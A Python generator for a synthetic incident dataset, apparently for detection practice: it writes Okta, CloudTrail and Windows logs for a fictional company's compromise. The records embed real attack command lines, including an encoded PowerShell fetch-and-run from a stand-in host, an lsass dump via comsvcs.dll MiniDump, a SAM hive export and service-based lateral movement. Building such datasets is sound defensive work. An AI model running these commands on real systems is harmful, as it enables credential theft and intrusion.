#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The sample incident: one day (2026-03-11) at a made-up shipping company.

    db/sample/make.py [FOLDER]      writes okta.ndjson cloudtrail.ndjson windows.ndjson

Always the same bytes: the seed is fixed and nothing is taken from the clock.
Record shapes are the vendors' (Okta System Log, CloudTrail, Sysmon and Security
as a forwarder writes them); people, hosts, addresses (RFC 5737) and content are
ours. Four things happen in a day of ordinary work:

  02:10  somebody tries passwords on Okta: only a browser ties the tries together
  09:12  Kai runs a "pdf" on WS-KAI: every step recorded by Sysmon
  10:03  Mira opens a document on WS-MIRA; lsass is dumped; 11:20 SRV-FILE falls
  12:31  Mira's Okta session is stolen: second factor, AWS, a new key, the buckets
"""
import base64
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.dont_write_bytecode = True
from noise import cloud_day, okta_day, windows_day        # noqa: E402
from scene import Cloud, Host, Okta, World, at            # noqa: E402


def spray(okta):
    """Passwords tried in the night from one machine; two fit, one owner says no."""
    who = dict(ip="198.51.100.77", agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0",
               device="7f1c09d2b8e64a51", place=("Vilnius", "Lithuania"))
    for i, name in enumerate(("jonas.eide", "petra.vik", "jonas.eide", "petra.vik", "jonas.eide")):
        okta.sign_in(at(2, 10 + 3 * i, 12 * i), name, ok=False, **who)
    okta.sign_in(at(2, 31, 40), "petra.vik", mfa=False, debug={"threatSuspected": "true", "behaviors":
                 "{New Device=POSITIVE, New IP=POSITIVE}"}, **who)
    okta.log(at(2, 38, 5), "user.mfa.okta_verify.deny_push", "jonas.eide", "FAILURE", reason="INVALID_CREDENTIALS",
             text="User rejected Okta push verify", debug={"factor": "OKTA_VERIFY_PUSH"}, **who)


def kai(h):
    """Download, double extension, run key, beacon: one host, nothing inferred."""
    u, s = h.user("kai.moen"), h.session["kai.moen"]
    edge = h.spawn(at(9, 11, 20), r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
                   "--single-argument https://toll-portal.example/declaration", h.shell["kai.moen"], u, s)
    h.dns(at(9, 11, 31), edge, "files.toll-portal.example", "198.51.100.140")
    h.connect(at(9, 11, 32), edge, "198.51.100.140", 443, "files.toll-portal.example")
    path = r"C:\Users\kai.moen\Downloads\Toll_Declaration_0311.pdf.exe"
    h.file(at(9, 12, 2), edge, path)
    h.stream(at(9, 12, 3), edge, path, "https://files.toll-portal.example/d/0311")
    drop = h.spawn(at(9, 12, 41), path, "", edge, u, s, desc="Toll Declaration")
    inner = r"C:\Users\kai.moen\AppData\Roaming\tollsync\tollsync.exe"
    h.file(at(9, 12, 44), drop, inner)
    h.registry(at(9, 12, 45), drop, r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Run\TollSync"
               .replace("{sid}", h.sid("kai.moen")), inner)
    sync = h.spawn(at(9, 12, 47), inner, "--first", drop, u, s, desc="Toll Sync")
    h.dns(at(9, 12, 52), sync, "status.tollsync.example", "198.51.100.144")
    h.connect(at(9, 12, 53), sync, "198.51.100.144", 8443, "status.tollsync.example")
    cmd = h.spawn(at(9, 14, 10), r"C:\Windows\System32\cmd.exe", "/c whoami /priv", sync, u, s)
    h.end(at(9, 14, 12), h.spawn(at(9, 14, 10, 180), r"C:\Windows\System32\whoami.exe", "/priv", cmd, u, s))
    h.end(at(9, 14, 12, 300), cmd)
    h.end(at(9, 14, 20), h.spawn(at(9, 14, 15), r"C:\Windows\System32\systeminfo.exe", "", sync, u, s))


def encoded(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


def mira(h):
    """Document, shell, implant, credentials; returns the implant."""
    u, s = h.user("mira.lund"), h.session["mira.lund"]
    doc = r"C:\Users\mira.lund\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K2QX\Berth_Plan_Q2.docm"
    h.file(at(10, 3, 2), h.known["outlook"], doc)
    word = h.spawn(at(10, 3, 5), r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                   '/n "%s" /o ""' % doc, h.known["outlook"], u, s)
    ps = h.spawn(at(10, 3, 21), r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                 "-nop -w hidden -enc " + encoded(
                     r"iwr https://cdn.berth-docs.example/g -OutFile C:\Users\Public\berth.exe; C:\Users\Public\berth.exe"),
                 word, u, s)
    h.dns(at(10, 3, 23), ps, "cdn.berth-docs.example", "198.51.100.23")
    h.connect(at(10, 3, 24), ps, "198.51.100.23", 443, "cdn.berth-docs.example")
    path = r"C:\Users\Public\berth.exe"
    h.file(at(10, 3, 29), ps, path)
    berth = h.spawn(at(10, 3, 33), path, "", ps, u, s, desc="Berth Viewer")
    for m in range(34, 56, 3):
        h.connect(at(10, m, 7 + m % 5), berth, "198.51.100.23", 443, "cdn.berth-docs.example")
    for t, image, words in ((at(10, 6, 2), "whoami.exe", "/all"), (at(10, 6, 9), "net.exe", 'group "Domain Admins" /domain'),
                            (at(10, 6, 30), "nltest.exe", "/dclist:halden.example"), (at(10, 7, 1), "net.exe", "view \\\\SRV-FILE")):
        cmd = h.spawn(t, r"C:\Windows\System32\cmd.exe", "/c %s %s" % (image, words), berth, u, s)
        h.end(t + 900, h.spawn(t + 150, "C:\\Windows\\System32\\" + image, words, cmd, u, s))
        h.end(t + 950, cmd)
    dump = r"C:\Users\Public\up.dmp"
    rundll = h.spawn(at(10, 41, 12), r"C:\Windows\System32\rundll32.exe",
                     "C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 %s full" % dump, berth, u, s, level="High")
    h.access(at(10, 41, 13), rundll, h.known["lsass"], "0x1fffff",
             r"C:\Windows\SYSTEM32\ntdll.dll+9d234|C:\Windows\System32\KERNELBASE.dll+2c0fe|"
             r"C:\Windows\SYSTEM32\dbgcore.DLL+8f3d|C:\Windows\System32\comsvcs.dll+2d2f1")
    h.file(at(10, 41, 14), rundll, dump)
    h.end(at(10, 41, 16), rundll)
    return berth


def lateral(h, srv, berth):
    """The implant signs on to SRV-FILE and has it run two things."""
    port, luid = 50422, 0x5ab31c4
    h.connect(at(11, 20, 4, 60), berth, srv.ip, 445, "SRV-FILE.halden.example", port)
    h.allowed(at(11, 20, 4), berth, srv.ip, 445, port)
    srv.inbound(at(11, 20, 4, 85), h.ip, port, 445)
    srv.logon(at(11, 20, 4, 400), "adm.sund", luid, 3, h.ip, port, "WS-MIRA")
    srv.share(at(11, 20, 5), "adm.sund", luid, h.ip, port, "ADMIN$", r"hmsvc.exe")
    srv.file(at(11, 20, 5, 300), srv.known["system"], r"C:\Windows\hmsvc.exe")
    srv.service(at(11, 20, 6), "adm.sund", luid, "hmsvc", r"%SystemRoot%\hmsvc.exe")
    svc = srv.spawn(at(11, 20, 7), r"C:\Windows\hmsvc.exe", "", srv.known["services"], srv.system(), 0x3e7,
                    desc="Harbour Maintenance")
    sh = srv.spawn(at(11, 20, 9), r"C:\Windows\System32\cmd.exe", r"/c vssadmin list shadows", svc, srv.system(), 0x3e7)
    srv.spawn(at(11, 20, 9, 200), r"C:\Windows\System32\vssadmin.exe", "list shadows", sh, srv.system(), 0x3e7)
    wmi = srv.spawn(at(11, 22, 30), r"C:\Windows\System32\wbem\WmiPrvSE.exe", "-secured -Embedding",
                    srv.known["svchost"], srv.service_account(), 0x3e4)
    ps = srv.spawn(at(11, 22, 31), r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                   "-nop -w hidden -enc " + encoded(r"reg save HKLM\SAM C:\Users\Public\s.hiv"), wmi, srv.user("adm.sund"), luid, level="High")
    save = srv.spawn(at(11, 22, 50), r"C:\Windows\System32\reg.exe", r"save HKLM\SAM C:\Users\Public\s.hiv", ps,
                     srv.user("adm.sund"), luid, level="High")
    srv.file(at(11, 22, 51), save, r"C:\Users\Public\s.hiv")
    srv.logoff(at(11, 31, 2), "adm.sund", luid, 3)


def cloud(okta, aws):
    """A stolen session becomes a key, and the key empties a bucket."""
    who = dict(ip="198.51.100.23", agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0",
               device="c0de55aa90317bd4", place=("Rotterdam", "Netherlands"))
    s = okta.sign_in(at(12, 31, 9), "mira.lund", mfa=False, debug={"behaviors": "{New Device=POSITIVE, New IP=POSITIVE, "
                     "New Geo-Location=POSITIVE}", "threatSuspected": "true"}, **who)
    okta.log(at(12, 34, 2), "user.mfa.factor.deactivate", "mira.lund", session=s, target="mira.lund",
             text="User reset FIDO2 factor", **who)
    okta.log(at(12, 35, 40), "user.mfa.factor.activate", "mira.lund", session=s, target="mira.lund",
             text="User set up OKTA_VERIFY_PUSH factor", **who)
    okta.sso(at(12, 41, 3), "mira.lund", "AWS Account Federation", s, **who)
    key = aws.saml(at(12, 41, 9), "mira.lund", "PlatformEngineer", who["ip"], who["agent"])
    cli = "aws-cli/2.15.22 Python/3.11.8 Linux/6.1.0"
    aws.call(at(12, 43, 1), key, "iam.amazonaws.com", "ListUsers", ip=who["ip"], agent=cli)
    aws.call(at(12, 44, 20), key, "iam.amazonaws.com", "ListAccessKeys", {"userName": "svc-reports"}, ip=who["ip"], agent=cli)
    new = aws.create_key(at(12, 47, 33), key, "svc-reports", who["ip"], cli)
    there = dict(ip="198.51.100.201", agent="Boto3/1.34.51 md/Botocore#1.34.51 ua/2.0 os/linux")
    aws.call(at(13, 52, 4), new, "sts.amazonaws.com", "GetCallerIdentity", **there)
    aws.call(at(13, 52, 10), new, "s3.amazonaws.com", "ListBuckets", **there)
    aws.call(at(13, 52, 41), new, "s3.amazonaws.com", "ListObjects", {"bucketName": "halden-manifests"}, **there)
    for i in range(240):
        aws.call(at(13, 54) + i * 1700 + aws.w.r.randrange(900), new, "s3.amazonaws.com", "GetObject",
                 {"bucketName": "halden-manifests", "key": "2026/%02d/%04d.csv.gz" % (1 + i // 90, i)}, data=True, **there)


def main():
    to = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
    w = World(20260311)
    okta, aws = Okta(w), Cloud(w)
    ws = Host(w, "WS-MIRA", "10.20.7.31", 0x4A11)
    wk = Host(w, "WS-KAI", "10.20.7.44", 0x4A12)
    srv = Host(w, "SRV-FILE", "10.20.4.10", 0x4A90)
    windows_day(w, ws, wk, srv)
    okta_day(w, okta)
    cloud_day(w, aws)
    spray(okta)
    kai(wk)
    lateral(ws, srv, mira(ws))
    cloud(okta, aws)
    w.write(to)


if __name__ == "__main__":
    main()
